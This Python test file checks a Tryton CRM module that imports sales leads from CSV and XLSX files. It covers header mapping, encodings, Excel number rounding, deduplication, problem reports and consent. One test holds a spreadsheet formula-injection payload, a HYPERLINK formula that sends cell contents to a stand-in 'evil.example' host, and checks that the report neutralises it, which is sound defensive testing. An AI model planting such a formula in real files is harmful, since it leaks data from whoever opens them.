"Import of leads from CSV and XLSX files, in the database."
import csv
import io
import unittest

from trytond.modules.company.tests import create_company, set_company
from trytond.pool import Pool
from trytond.tests.test_tryton import activate_module, with_transaction
from trytond.transaction import Transaction

from ..lead_import import (
    ColumnMap, LeadFile, LeadImport, LeadImportError, ProblemReport)

STATES = [
    ('IN-MH', "Maharashtra"), ('IN-GJ', "Gujarat"), ('IN-OD', "Odisha"),
    ('IN-DL', "Delhi"), ('IN-TN', "Tamil Nadu")]


def create_india():
    pool = Pool()
    Country = pool.get('country.country')
    Subdivision = pool.get('country.subdivision')
    india, = Country.create([{'name': "India", 'code': 'IN'}])
    Subdivision.create([{'country': india.id, 'code': code, 'name': name,
                'type': 'state'} for code, name in STATES])


def state(code):
    Subdivision = Pool().get('country.subdivision')
    subdivision, = Subdivision.search([('code', '=', code)])
    return subdivision


def import_bytes(data, filename='leads.csv', **options):
    """Import the file and return (summary, problem report rows as
    dicts)."""
    Lead = Pool().get('crm.lead')
    stream = io.StringIO()
    options.setdefault('source', 'import')
    summary = Lead.import_file(io.BytesIO(data), filename,
        report=ProblemReport(stream), **options)
    return summary, list(csv.DictReader(io.StringIO(stream.getvalue())))


def import_text(text, encoding='utf-8', **options):
    return import_bytes(text.encode(encoding), **options)


def csv_text(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def leads():
    Lead = Pool().get('crm.lead')
    return Lead.search([], order=[('id', 'ASC')])


class LeadImportTestCase(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        activate_module('kraya_crm')

    def test_headers_map_to_lead_fields_by_their_usual_names(self):
        columns = ColumnMap([
                'Full Name', 'Mobile No.', 'WhatsApp Number', 'E-mail',
                'City', 'State/UT', 'Company Name', 'Campaign', 'Remarks'])
        self.assertEqual(columns.index, {
                'name': 0, 'phone': 1, 'whatsapp': 2, 'email': 3,
                'city': 4, 'state': 5, 'company_name': 6, 'campaign': 7,
                'notes': 8})

    def test_portal_export_headers_are_recognised(self):
        "Lead-ad and marketplace exports name their columns their own way."
        columns = ColumnMap([
                'SENDER_NAME', 'SENDER_MOBILE', 'SENDER_EMAIL',
                'Customer Name', 'Contact Number', 'QUERY_MESSAGE'])
        self.assertEqual(columns.index, {
                'name': 0, 'phone': 1, 'email': 2, 'notes': 5})
        self.assertEqual(columns.ignored, ['Customer Name', 'Contact Number'])

    def test_serial_number_column_is_not_taken_for_a_phone(self):
        columns = ColumnMap(['Sr. No.', 'Name', 'Mobile'])
        self.assertEqual(columns.index, {'name': 1, 'phone': 2})
        self.assertEqual(columns.ignored, ['Sr. No.'])

    @with_transaction()
    def test_utf8_bom_does_not_hide_the_first_header(self):
        with set_company(create_company()):
            summary, _ = import_bytes(
                b'\xef\xbb\xbfName,Mobile\r\nAsha Kulkarni,9876543210\r\n')
            lead, = leads()
            self.assertEqual(
                (lead.name, lead.phone), ("Asha Kulkarni", '+919876543210'))

    @with_transaction()
    def test_windows_1252_file_keeps_its_accents(self):
        with set_company(create_company()):
            import_text("Name,Mobile,Notes\nJosé Fernandes,9876543210,"
                "Budget ‘2 Cr’\n", encoding='cp1252')
            lead, = leads()
            self.assertEqual(lead.name, "José Fernandes")
            self.assertEqual(lead.notes, "Budget ‘2 Cr’")

    @with_transaction()
    def test_semicolon_separated_file_is_read(self):
        with set_company(create_company()):
            import_text("Name;Mobile;City\nAsha;9876543210;Pune\n")
            lead, = leads()
            self.assertEqual(lead.city, "Pune")

    @with_transaction()
    def test_excel_scientific_number_becomes_the_phone(self):
        with set_company(create_company()):
            import_text("Name,Mobile\nAsha,9.19876543210E+11\n")
            lead, = leads()
            self.assertEqual(lead.phone, '+919876543210')

    @with_transaction()
    def test_number_rounded_by_excel_is_reported_not_guessed(self):
        with set_company(create_company()):
            summary, problems = import_text("Name,Mobile\nAsha,9.19877E+11\n")
            self.assertEqual(leads(), [])
            problem, = problems
            self.assertEqual((problem['Row'], problem['Column']),
                ('2', 'Mobile'))
            self.assertIn("Excel rounded", problem['Problem'])

    @with_transaction()
    def test_empty_lines_are_skipped_and_row_numbers_stay_the_sheet_ones(self):
        with set_company(create_company()):
            summary, problems = import_text(
                "Name,Mobile\n\nAsha,9876543210\n,\n\nRavi,12345\n")
            self.assertEqual(summary.rows, 2)
            self.assertEqual(summary.empty, 3)
            self.assertEqual(len(leads()), 1)
            self.assertEqual([p['Row'] for p in problems], ['6'])

    @with_transaction()
    def test_header_under_a_title_row_is_found(self):
        with set_company(create_company()):
            summary, _ = import_text(
                "Leads from the Powai expo\n\nName,Mobile\nAsha,9876543210\n")
            self.assertEqual(summary.header_row, 3)
            self.assertEqual(len(leads()), 1)

    @with_transaction()
    def test_file_without_a_header_is_refused(self):
        with set_company(create_company()):
            with self.assertRaises(LeadImportError):
                import_text("Asha,9876543210\nRavi,9123456789\n")

    @with_transaction()
    def test_unknown_source_is_refused(self):
        with set_company(create_company()):
            with self.assertRaisesRegex(LeadImportError, 'expo'):
                import_text("Name,Mobile\nAsha,9876543210\n", source='expo')

    @with_transaction()
    def test_same_person_twice_in_the_file_makes_one_lead(self):
        with set_company(create_company()):
            summary, _ = import_text(
                "Name,Mobile,Email\n"
                "Asha,98765 43210,\n"
                "Asha K,+91-98765-43210,asha@example.in\n")
            lead, = leads()
            self.assertEqual(lead.name, "Asha")
            self.assertEqual(lead.email, 'asha@example.in')
            self.assertEqual((summary.created, summary.duplicates), (1, 1))

    @with_transaction()
    def test_repeats_far_apart_in_the_file_make_one_lead(self):
        "The second row comes in a later batch than the first."
        with set_company(create_company()):
            rows = ''.join(f"P{i},98{i:08d}\n" for i in range(30))
            summary, _ = import_text(
                "Name,Mobile\n" + rows + "Again,+91 9800000003\n",
                batch_size=10)
            self.assertEqual(len(leads()), 30)
            self.assertEqual(summary.duplicates, 1)

    @with_transaction()
    def test_bad_rows_are_reported_with_row_column_reason_and_good_rows_go_in(
            self):
        with set_company(create_company()):
            summary, problems = import_text(
                "Name,Mobile,Email\n"
                "Asha,9876543210,asha@example.in\n"
                "Ravi,12345,ravi@example.in\n"
                "Meera,9123456789,meera@\n"
                "Imran,9988776655,\n")
            self.assertEqual([l.name for l in leads()], ["Asha", "Imran"])
            self.assertEqual(
                [(p['Row'], p['Column'], p['Outcome']) for p in problems],
                [('3', 'Mobile', 'not imported'),
                    ('4', 'Email', 'not imported')])
            self.assertIn('12345', problems[0]['Problem'])
            self.assertEqual(problems[0]['Name'], "Ravi")
            self.assertEqual((summary.created, summary.errors), (2, 2))

    @with_transaction()
    def test_problem_report_is_inert_in_a_spreadsheet_and_imports_again(
            self):
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        with set_company(create_company()):
            _, (problem,) = import_text(
                csv_text([['Name', 'Mobile'], [hostile, '12345']]))
            self.assertEqual(problem['Name'], "'" + hostile)
            # Fixed in the spreadsheet, as it shows the cells, and imported.
            summary, problems = import_text(csv_text([['Name', 'Mobile'],
                        [problem['Name'], "'+91 98765 43210"]]))
            self.assertEqual((summary.created, problems), (1, []))
            lead, = leads()
            self.assertEqual((lead.name, lead.phone),
                (hostile, '+919876543210'))

    @with_transaction()
    def test_row_without_phone_or_email_is_reported(self):
        with set_company(create_company()):
            summary, problems = import_text("Name,Mobile\nAsha,\n")
            self.assertEqual(leads(), [])
            self.assertEqual(problems[0]['Column'], 'Mobile')

    @with_transaction()
    def test_existing_lead_is_attached_to_and_only_its_empty_fields_filled(
            self):
        Lead = Pool().get('crm.lead')
        with set_company(create_company()):
            lead, = Lead.create([{'name': "Asha K", 'phone': '9876543210'}])
            summary, _ = import_text(
                "Name,Mobile,City\nSomeone Else,098765-43210,Pune\n")
            self.assertEqual(leads(), [lead])
            self.assertEqual((lead.name, lead.city), ("Asha K", "Pune"))
            self.assertEqual((summary.created, summary.matched), (0, 1))

    @with_transaction()
    def test_filled_leads_are_written_as_a_write_would(self):
        "Audit fields and write hooks: a new WhatsApp number is tried again."
        Lead = Pool().get('crm.lead')
        with set_company(create_company()):
            asha, ravi = Lead.create([
                    {'name': "Asha", 'phone': '9876543210',
                        'not_on_whatsapp': True},
                    {'name': "Ravi", 'phone': '9123456789'}])
            import_text("Name,Mobile,WhatsApp,City\n"
                "Asha,9876543210,9988776655,\n"
                "Ravi,9123456789,,Surat\n")
            self.assertEqual(
                (asha.whatsapp, asha.not_on_whatsapp, asha.city),
                ('+919988776655', False, None))
            self.assertEqual((ravi.whatsapp, ravi.city), (None, "Surat"))
            for lead in [asha, ravi]:
                self.assertEqual(lead.write_uid.id, Transaction().user)
                self.assertIsNotNone(lead.write_date)

    @with_transaction()
    def test_parallel_import_gives_what_the_serial_one_gives(self):
        "Rows sorted in a child process that reads the file, chunk by chunk."
        rows = ''.join(f"P{i},98{i:08d},{'bad' if i % 500 == 7 else ''}\n"
            for i in range(4500))
        text = ("Name,Mobile,Email\n" + rows
            + "Again,+91 9800000003,again@example.in\n")
        with set_company(create_company()):
            fractions = []
            parallel, parallel_problems = import_text(text, parallel=True,
                progress=lambda rows, fraction: fractions.append(fraction))
            imported = [(l.name, l.phone, l.email) for l in leads()]
            Transaction().rollback()
        with set_company(create_company()):
            serial, serial_problems = import_text(text)
            self.assertEqual(
                [(l.name, l.phone, l.email) for l in leads()], imported)
        self.assertEqual(parallel_problems, serial_problems)
        self.assertEqual(len(parallel_problems), 9)
        self.assertEqual(parallel_problems[0]['Name'], "P7")
        self.assertEqual(
            [(s.rows, s.created, s.duplicates, s.errors)
                for s in [parallel, serial]],
            [(4501, 4491, 1, 9)] * 2)
        self.assertEqual(fractions, sorted(fractions))
        self.assertEqual(fractions[-1], 1)

    @with_transaction()
    def test_known_people_found_by_lookup_or_by_reading_every_lead(self):
        "Few rows against many leads: looked up; else every lead is read."
        Lead = Pool().get('crm.lead')
        with set_company(create_company()):
            Lead.create([{'name': f"P{i}", 'phone': f'98{i:08d}'}
                    for i in range(20)]
                + [{'name': "Asha", 'email': 'asha@example.in'}])
            few = "Name,Mobile,Email\nP3,+91 9800000003,\nNew,9123456789,\n"
            many = (few + ''.join(f"Q{i},97{i:08d},\n" for i in range(40))
                + "A,,ASHA@example.in\n")
            for text, reads_every_lead, counts in [
                    (few, False, (1, 1)), (many, True, (2, 41))]:
                lead_file = LeadFile(io.BytesIO(text.encode()))
                next(lead_file.rows())
                self.assertEqual(LeadImport(Lead)._reads_every_lead(
                        lead_file), reads_every_lead)
                summary, _ = import_text(text, dry_run=True)
                self.assertEqual((summary.matched, summary.created), counts)

    @with_transaction()
    def test_whatsapp_number_matches_an_existing_phone(self):
        Lead = Pool().get('crm.lead')
        with set_company(create_company()):
            lead, = Lead.create([{'name': "Asha", 'phone': '9876543210'}])
            import_text("Name,WhatsApp\nAsha,+919876543210\n")
            self.assertEqual(leads(), [lead])

    @with_transaction()
    def test_dry_run_writes_nothing(self):
        Lead = Pool().get('crm.lead')
        with set_company(create_company()):
            Lead.create([{'name': "Asha", 'phone': '9876543210'}])
            text = ("Name,Mobile\nAsha,9876543210\nRavi,9123456789\n"
                "Ravi again,09123456789\nBad,123\n")
            dry, problems = import_text(text, dry_run=True)
            self.assertEqual(len(leads()), 1)
            self.assertEqual(len(problems), 1)
            real, _ = import_text(text)
            self.assertEqual(
                [(s.created, s.matched, s.duplicates, s.errors)
                    for s in [dry, real]], [(1, 1, 1, 1)] * 2)

    @with_transaction()
    def test_xlsx_file_with_number_cells_is_imported(self):
        import openpyxl
        workbook = openpyxl.Workbook()
        sheet = workbook.active
        sheet.append(['Name', 'Mobile', 'Email'])
        sheet.append(['Asha', 919876543210, 'ASHA@example.in'])
        sheet.append([])
        sheet.append(['Ravi', 9.19123456789E+11, None])
        sheet.append(['Bad', 12345, None])
        data = io.BytesIO()
        workbook.save(data)
        with set_company(create_company()):
            summary, problems = import_bytes(data.getvalue(), 'leads.xlsx')
            self.assertEqual(
                [(l.name, l.phone, l.email) for l in leads()],
                [("Asha", '+919876543210', 'asha@example.in'),
                    ("Ravi", '+919123456789', None)])
            self.assertEqual([p['Row'] for p in problems], ['5'])

    @with_transaction()
    def test_states_match_by_name_code_and_common_spelling(self):
        with set_company(create_company()):
            create_india()
            summary, problems = import_text(
                "Name,Mobile,State\n"
                "A,9800000001,Maharashtra\n"
                "B,9800000002,mh\n"
                "C,9800000003,IN-GJ\n"
                "D,9800000004,Orissa\n"
                "E,9800000005,New Delhi\n"
                "F,9800000006,tamilnadu\n")
            self.assertEqual([l.subdivision for l in leads()], [
                    state('IN-MH'), state('IN-MH'), state('IN-GJ'),
                    state('IN-OD'), state('IN-DL'), state('IN-TN')])
            self.assertEqual(problems, [])

    @with_transaction()
    def test_unknown_state_is_reported_and_the_lead_imported_without_it(
            self):
        with set_company(create_company()):
            create_india()
            summary, problems = import_text(
                "Name,Mobile,State\nA,9800000001,Atlantis\n")
            lead, = leads()
            self.assertIsNone(lead.subdivision)
            self.assertEqual(problems[0]['Outcome'],
                'imported without this value')
            self.assertEqual(summary.warnings, 1)

    @with_transaction()
    def test_no_consent_is_recorded_without_a_basis(self):
        Consent = Pool().get('crm.lead.consent')
        with set_company(create_company()):
            import_text("Name,Mobile\nAsha,9876543210\n")
            self.assertEqual(Consent.search([]), [])

    @with_transaction()
    def test_consent_is_recorded_with_the_stated_basis(self):
        Consent = Pool().get('crm.lead.consent')
        with set_company(create_company()):
            import_text("Name,Mobile\nAsha,9876543210\nAsha,09876543210\n",
                consent_basis="Asked for a call back at the site office",
                consent_channel='whatsapp')
            consent, = Consent.search([])
            self.assertEqual(
                (consent.channel, consent.state, consent.opted_in_how,
                    consent.opted_in_basis),
                ('whatsapp', 'opted_in', 'import',
                    "Asked for a call back at the site office"))

    @with_transaction()
    def test_new_leads_get_company_owner_source_and_audit_fields(self):
        company = create_company()
        with set_company(company):
            import_text("Name,Mobile\nAsha,9876543210\n")
            lead, = leads()
            self.assertEqual(lead.company, company)
            self.assertEqual(lead.owner.id, Transaction().user)
            self.assertEqual(lead.create_uid.id, Transaction().user)
            self.assertIsNotNone(lead.create_date)
            self.assertEqual((lead.status, lead.score, lead.source.code),
                ('new', 0, 'import'))

    @with_transaction()
    def test_wizard_shows_the_summary_and_offers_the_problem_file(self):
        pool = Pool()
        Import = pool.get('crm.lead.import', type='wizard')
        Source = pool.get('crm.source')
        with set_company(create_company()):
            session_id, _, _ = Import.create()
            wizard = Import(session_id)
            wizard.start.file = b"Name,Mobile\nAsha,9876543210\nRavi,123\n"
            wizard.start.filename = 'expo.csv'
            wizard.start.source = Source.get_by_code('walk-in')
            wizard.start.dry_run = False
            wizard.start.consent_basis = None
            wizard.start.consent_channel = 'whatsapp'
            self.assertEqual(wizard.transition_import_(), 'result')
            self.assertIn("1 new leads created", wizard.result.summary)
            self.assertIn("123", wizard.result.problems)
            self.assertEqual(wizard.result.report_filename, 'expo.errors.csv')
            report = wizard.result.report.decode('utf-8-sig')
            self.assertTrue(report.startswith('Row,Column,Problem'))
            lead, = leads()
            self.assertEqual(lead.source.code, 'walk-in')

    @with_transaction()
    def test_wizard_dry_run_then_import_for_real(self):
        pool = Pool()
        Import = pool.get('crm.lead.import', type='wizard')
        with set_company(create_company()):
            session_id, _, _ = Import.create()
            wizard = Import(session_id)
            wizard.start.file = b"Name,Mobile\nAsha,9876543210\n"
            wizard.start.filename = 'expo.csv'
            wizard.start.source = wizard.start.default_source()
            wizard.start.dry_run = True
            wizard.start.consent_basis = None
            wizard.start.consent_channel = 'whatsapp'
            wizard.transition_import_()
            self.assertTrue(wizard.result.dry_run)
            self.assertEqual(leads(), [])
            wizard.transition_import_for_real()
            self.assertEqual(len(leads()), 1)
